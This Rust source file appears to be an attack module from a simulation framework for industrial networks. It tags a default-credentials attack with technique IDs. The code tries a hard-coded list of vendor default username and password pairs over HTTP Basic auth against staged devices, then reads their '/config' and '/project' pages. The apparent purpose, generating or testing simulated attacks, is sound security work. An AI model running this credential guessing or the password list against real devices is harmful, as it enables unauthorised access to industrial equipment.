//! Default credentials: the passwords with which devices are delivered, one after the other, on page
//! after page; what opens is read.

use super::{Attack, Needs, moved};
use crate::net::web::Get;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "default-credentials",
    about: "tries the vendors' passwords on device pages and reads what opens",
    technique: moved("T0812", "T1694.001"),
    acceptable: &["T0891", "T1694.002", "T0859"],
    grade: "A",
    kind: "fast",
    proto: "http",
    variants: &["devices", "one"],
    needs: Needs::Sockets,
    seconds: [1000, 100, 12],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let mut devices = stage.servers();
    let (most, pace) = stage.by((5, 20.0), (12, 0.8), (24, 0.04));
    let pace = if stage.is("one") { pace * stage.by(5.0, 10.0, 20.0) } else { pace };
    if stage.is("one") {
        devices = vec![stage.controller()];
    } else {
        let first = stage.rng.below(devices.len() as u64) as usize;
        devices.rotate_left(first);
        devices.truncate(most);
    }
    for device in devices {
        let mut key = None;
        for (user, password) in PAIRS {
            let login = format!("Basic {}", base64(format!("{user}:{password}").as_bytes()));
            let page = intruder.get(device, Get::path("/config").with("Authorization", login.clone())).await;
            stage.pause(pace).await;
            match page {
                Ok(page) if page.status == 200 => {
                    stage.changed(format!("{device} opened to {user}:{password}"));
                    key = Some(login);
                    break;
                }
                Ok(_) => {}
                Err(_) => break,
            }
        }
        let Some(key) = key else { continue };
        for path in ["/config", "/project"] {
            drop(intruder.get(device, Get::path(path).with("Authorization", key.clone())).await);
            stage.pause(pace).await;
        }
    }
    Ok(())
}

/// As the Basic scheme sends a name and a password (RFC 4648, 4).
fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let mut word = [0; 4];
        word[1..=three.len()].copy_from_slice(three);
        let word = u32::from_be_bytes(word);
        for place in 0..4 {
            let six = word >> (18 - 6 * place) & 63;
            out.push(if place > three.len() { '=' } else { char::from(LETTERS[six as usize]) });
        }
    }
    out
}

const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
/// What devices are delivered with.
const PAIRS: &[(&str, &str)] = &[
    ("root", "root"),
    ("admin", "1234"),
    ("user", "user"),
    ("admin", "password"),
    ("service", "service"),
    ("USER", "USER"),
    ("administrator", ""),
    ("admin", "admin"),
    ("root", "12345"),
    ("guest", "guest"),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::web::{DEFAULT_LOGIN, LOGIN};

    #[test]
    fn base64_is_what_servers_expect() {
        assert_eq!(format!("Basic {}", base64(b"admin:admin")), DEFAULT_LOGIN);
        assert_eq!(format!("Basic {}", base64(b"engineer:plant-7f3a")), LOGIN);
        assert_eq!(base64(b"user:use"), "dXNlcjp1c2U=");
    }
}
